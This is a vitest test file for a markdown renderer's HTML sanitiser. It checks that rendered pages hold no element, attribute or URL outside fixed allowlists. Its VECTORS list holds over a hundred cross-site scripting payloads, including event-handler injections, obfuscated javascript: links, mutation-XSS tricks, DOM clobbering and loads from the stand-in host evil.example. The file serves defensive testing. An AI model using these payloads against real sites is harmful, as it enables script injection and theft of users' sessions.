import { html as parse5Html, parseFragment, serialize, type DefaultTreeAdapterMap } from "parse5";
import { describe, expect, test } from "vitest";
import { fillNote } from "#markdown/fill.ts";
import type { Resolution, Slot } from "#markdown/note.ts";
import { compile } from "./rendered.ts";

/** Everything a page may hold. Written down apart from the sanitiser's own list, so that a slip there shows here. */
const ELEMENTS = new Set(
  "a abbr address article aside audio b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i iframe img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var video wbr".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "align allowfullscreen alt aria-hidden aria-label checked class colspan controls data-callout data-language data-task datetime decoding dir disabled height href id lang loading loop muted open preload referrerpolicy rel reversed role rowspan sandbox scope span src start tabindex title type valign value width".split(
    " ",
  ),
);
const LINK = /^(?:https?:|mailto:|tel:|obsidian:|\/(?![/\\])|#)/;
const SOURCE = /^(?:https?:|data:image\/(?:png|jpeg|gif|webp|avif);base64,|\/(?![/\\]))/;
const PLAYER = /^https:\/\/(?:www\.youtube-nocookie\.com\/embed\/|player\.vimeo\.com\/video\/)/;

/** Formulas are printed as MathML and, for roots and braces, as paths. */
const FORMULA_ELEMENTS = new Set(
  "math semantics annotation mrow mi mo mn ms mtext mstyle msup msub msubsup mfrac msqrt mroot mtable mtr mtd mover munder munderover mspace mpadded mphantom menclose svg path".split(
    " ",
  ),
);
const FORMULA_ATTRIBUTES = new Set(
  "xmlns display encoding stretchy fence separator mathvariant mathcolor mathsize mathbackground scriptlevel displaystyle accent linethickness columnalign columnspacing rowspacing width height lspace rspace minsize maxsize depth voffset notation viewBox preserveAspectRatio d class".split(
    " ",
  ),
);
type Node = DefaultTreeAdapterMap["node"];

/** What a browser would find in the HTML that must not be there. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Node, inFormula: boolean): void => {
    const inside =
      inFormula ||
      ("attrs" in node &&
        node.attrs.some(({ name, value }) => name === "class" && value === "katex"));
    if ("attrs" in node) {
      const { tagName, namespaceURI, attrs } = node;
      const isHtml = namespaceURI === parse5Html.NS.HTML;
      if (!(isHtml ? ELEMENTS.has(tagName) : inside && FORMULA_ELEMENTS.has(tagName)))
        found.push(`<${tagName}>`);
      for (const { name, value } of attrs) {
        const isStyle = name === "style" && inside && !/[(:]\s*\/|url|expression|@|\\/.test(value);
        if (!(isHtml ? ATTRIBUTES.has(name) || isStyle : FORMULA_ATTRIBUTES.has(name)))
          found.push(`${tagName}[${name}]`);
        if (name === "href" && !LINK.test(value)) found.push(`href ${value}`);
        if (name === "src" && !(tagName === "iframe" ? PLAYER : SOURCE).test(value))
          found.push(`src ${value}`);
        if (name === "id" && /^(?:__proto__|location|getElementById|attributes|x)$/.test(value))
          found.push(`id ${value}`);
      }
      if (tagName === "input" && !attrs.some(({ name }) => name === "disabled"))
        found.push("input");
    }
    if ("childNodes" in node) for (const child of node.childNodes) walk(child, inside);
  };
  const tree = parseFragment(html);
  walk(tree, false);
  // Some attacks only appear when the page is written out and read again.
  walk(parseFragment(serialize(tree)), false);
  return found;
}

function page(source: string): string {
  const resolve = (slot: Slot): Resolution =>
    slot.target.includes("missing")
      ? { kind: "missing" }
      : { kind: "page", url: "/found", title: slot.target };
  return fillNote(compile(source), resolve);
}

const VECTORS = [
  "<script>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=x>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=javascript:alert(1) controls></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  '<form action="javascript:alert(1)"><input type=submit></form>',
  "<a href=javascript:alert(1)>x</a>",
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#106avascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  "<a href=vbscript:msgbox(1)>x</a>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<a href=x ping=//evil.example onclick=alert(1)>x</a>",
  "<a href=https://e.org target=_blank>x</a>",
  "<a href='https://e.org\" onclick=\"alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\x01javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](javascript&colon;alert(1))",
  "[x][a]\n\n[a]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](obsidian://open)",
  "![x](mailto:a@b.org)",
  "<img src=obsidian://open>",
  "<video src=obsidian://open controls></video>",
  "<kbd>k</kbd> <audio src=tel:1 controls></audio>",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '![x"onerror="alert(1)](https://e.org/x.png)',
  '[x](https://e.org "t\\" onclick=alert(1)")',
  '[[x" onclick="alert(1)]]',
  "[[javascript:alert(1)|x]]",
  '[[missing"><img src=x onerror=alert(1)>]]',
  '![[missing"><img src=x onerror=alert(1)>|x]]',
  '![[https://e.org/"><script>alert(1)</script>]]',
  '#tag"><script>alert(1)</script>',
  "# <img src=x onerror=alert(1)>",
  '# " onclick="alert(1)',
  '> [!x" onclick="alert(1)] T\n> y',
  "> [!<script>] <script>alert(1)</script>",
  'a[^"><script>]\n\n[^"><script>]: x',
  '```js"><img onerror=alert(1)>\nx\n```',
  "```<script>\nx\n```",
  "```../../x\nx\n```",
  "```mermaid\n<img src=x onerror=alert(1)>\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics{javascript:alert(1)}$",
  "$\\htmlStyle{background:url(//evil.example)}{x}$",
  "$<script>alert(1)</script>$",
  "$\\frac{<img src=x onerror=alert(1)>$",
  'a ^id"><script>',
  "- [<] <script>alert(1)</script>",
  '- ["] x',
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  '<iframe src="https://www.youtube.com/embed/NnTvZWp5Q7o" onload=alert(1) srcdoc=x></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/NnTvZWp5Q7o"></iframe>',
  '<iframe src="https://www.youtube.com/embed/NnTvZWp5Q7o?x=%22onload=alert(1)"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<portal src=//evil.example></portal>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p id=__proto__ name=getElementById>x</p>",
  "<form id=x><input name=attributes></form>",
  "<a name=location id=attributes>x</a>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<div class='a\n\nb it's onclick=alert(1) <b title=\"x\">y</b>",
  '<div title="x\n\n[a](b.md) onmouseover=alert(1) ">',
  "<div\n\nonclick=alert(1) [x](y.md)",
  '<a href="x.md" onclick=alert(1)>x</a>',
  '<img src="x.png" onerror=alert(1) width="1 onerror=alert(1)">',
  "<td background=javascript:alert(1)>",
  "<table background=javascript:alert(1)><tr><td>x",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<div>&lt;script&gt;alert(1)&lt;/script&gt;</div>",
  "\x810\x8D \x8Ft0\x90 &#x81;0&#x8D; &#129;0&#141; [x](%C2%810%C2%8D)",
  '<a href="&#x81;0&#x8D;" onclick=alert(1)>x</a>',
  "<b \x8Ft0\x90 onclick=alert(1)>x</b>",
  "<sCrIpT>alert(1)</sCrIpT><kbd>k</kbd>",
  "<x onclick=alert(1)>y</x>",
  "<p/onclick=alert(1)>x",
  "<p onclick=alert(1)//>x",
  "<q/oncut=alert(1)>x",
  "---\ntitle: <script>alert(1)</script>\n---\n<b>x</b>",
];

describe("a page made of hostile markup", () => {
  test.each(VECTORS)("%j holds nothing a browser would run", (source) => {
    expect(dangers(page(source))).toEqual([]);
  });

  test.each(VECTORS)("%j next to trusted markup holds nothing either", (source) => {
    const around = `<kbd>k</kbd> [a](b.md) ![[c]]\n\n> [!note] T\n> ${source.split("\n", 1)[0]}\n\n${source}\n\n- [x] done <u>u</u>\n`;
    expect(dangers(page(around))).toEqual([]);
  });

  test("the check itself sees dangers", () => {
    expect(
      dangers(
        "<script></script><p onclick=x style=y><a href=javascript:x><img src=data:text/html,x>",
      ),
    ).toHaveLength(10);
  });

  test("what the engine prints on its own passes the check", () => {
    const html = page(
      "# H\n\n> [!tip]- T\n> x\n\n- [ ] a\n\n| a |\n|:-:|\n| b |\n\n```js\nx\n```\n\na[^1] #tag [[x]] ==m== ~~d~~ ^id\n\n[^1]: n\n\n<details><summary>s</summary>t</details>",
    );
    expect(dangers(html)).toEqual([]);
  });
});
